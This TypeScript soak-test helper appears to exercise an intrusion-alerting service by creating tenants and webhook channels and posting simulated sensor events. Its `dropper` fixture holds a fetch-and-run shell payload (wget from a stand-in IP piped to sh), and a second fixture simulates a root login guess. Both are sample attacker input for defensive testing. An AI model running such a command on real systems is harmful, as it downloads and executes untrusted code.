/** One tenant of the soak: what it sends, what was acknowledged, and which messages it must get. */
import { setTimeout as delay } from 'node:timers/promises';
import { newWebhookSecret } from '../../../src/notify/channels/webhook.ts';
import { call, mustCall, type Target } from './http.ts';

export interface SoakTenant {
  id: string;
  name: string;
  headers: Record<string, string>;
  nodeHeaders: Record<string, string>;
  /** log_id by event_id. */
  acknowledged: Map<string, string>;
  /** Answers that contradict an earlier one. */
  contradictions: string[];
  /** When the event of a source that people must be told of was acknowledged, ms. */
  due: Map<string, number>;
  /** How long acknowledgements took, while the disk had room and the server ran. */
  tookMs: number[];
  refused: number;
}

export async function makeTenant(
  target: Target,
  name: string,
  channelUrls: readonly string[],
): Promise<SoakTenant> {
  const user = await mustCall<{ access_token: string; user: { id: string } }>(
    target,
    'POST',
    '/auth/register',
    {
      body: { email: `${name}@example.org`, password: 'correct horse battery' },
    },
  );
  const headers = { authorization: `Bearer ${user.access_token}` };
  const node = await mustCall<{ api_key: string }>(target, 'POST', '/nodes', {
    headers,
    body: { name: 'sensor' },
  });
  for (const [at, url] of channelUrls.entries())
    await mustCall(target, 'POST', '/api/channels', {
      headers,
      body: { name: `channel ${at}`, channel: 'webhook', settings: { url, secret: newWebhookSecret() } },
    });
  return {
    ...{ id: user.user.id, name, headers, nodeHeaders: { 'x-node-key': node.api_key } },
    ...{ acknowledged: new Map(), contradictions: [], due: new Map(), tookMs: [], refused: 0 },
  };
}

export interface SentEvent {
  event_id: string;
  source_ip: string;
  service: string;
  activity: string;
  payload: string;
  timestamp: string;
  extra?: object;
}

interface Answer {
  results: { status: string; event_id?: string; log_id?: string; reason?: string; retryable?: boolean }[];
}

/** Nobody has a reason to run this; from inside, so that no wave folds it. */
export const dropper = (eventId: string, source_ip: string): SentEvent => ({
  ...{ event_id: eventId, source_ip, service: 'ssh', activity: 'command' },
  payload: 'wget http://198.51.100.7/x.sh -O- | sh',
  timestamp: new Date().toISOString(),
});
export const guess = (eventId: string, source_ip: string): SentEvent => ({
  ...{ event_id: eventId, source_ip, service: 'ssh', activity: 'login_attempt', payload: '' },
  timestamp: new Date().toISOString(),
  extra: { username: 'root', password: eventId },
});

/** Sends until all is acknowledged, under the same ids; false where `isOver` came first. */
export async function sendAll(
  target: Target,
  tenant: SoakTenant,
  events: readonly SentEvent[],
  { isOver, isMeasured }: { isOver(): boolean; isMeasured(): boolean },
): Promise<boolean> {
  for (;;) {
    const isCounted = isMeasured();
    const { status, body, tookMs } = await call<Answer>(target, 'POST', '/api/events', {
      headers: tenant.nodeHeaders,
      body: events,
    });
    if (status === 200 && isCounted && isMeasured()) tenant.tookMs.push(tookMs);
    if (status !== 200) tenant.refused++;
    for (const [at, { status: outcome, log_id, reason, retryable }] of (
      (status === 200 && body?.results) ||
      []
    ).entries()) {
      const { event_id, payload, source_ip } = events[at]!;
      if (outcome === 'rejected' && !retryable) tenant.contradictions.push(`${event_id}: ${reason}`);
      if ((outcome !== 'accepted' && outcome !== 'duplicate') || log_id === undefined) continue;
      const earlier = tenant.acknowledged.get(event_id);
      if (earlier !== undefined && (earlier !== log_id || outcome === 'accepted'))
        tenant.contradictions.push(`${event_id}: ${earlier}, then ${outcome} ${log_id}`);
      tenant.acknowledged.set(event_id, log_id);
      if (payload !== '' && !tenant.due.has(source_ip)) tenant.due.set(source_ip, performance.now());
    }
    if (events.every(({ event_id }) => tenant.acknowledged.has(event_id))) return true;
    if (isOver()) return false;
    await delay(200);
  }
}
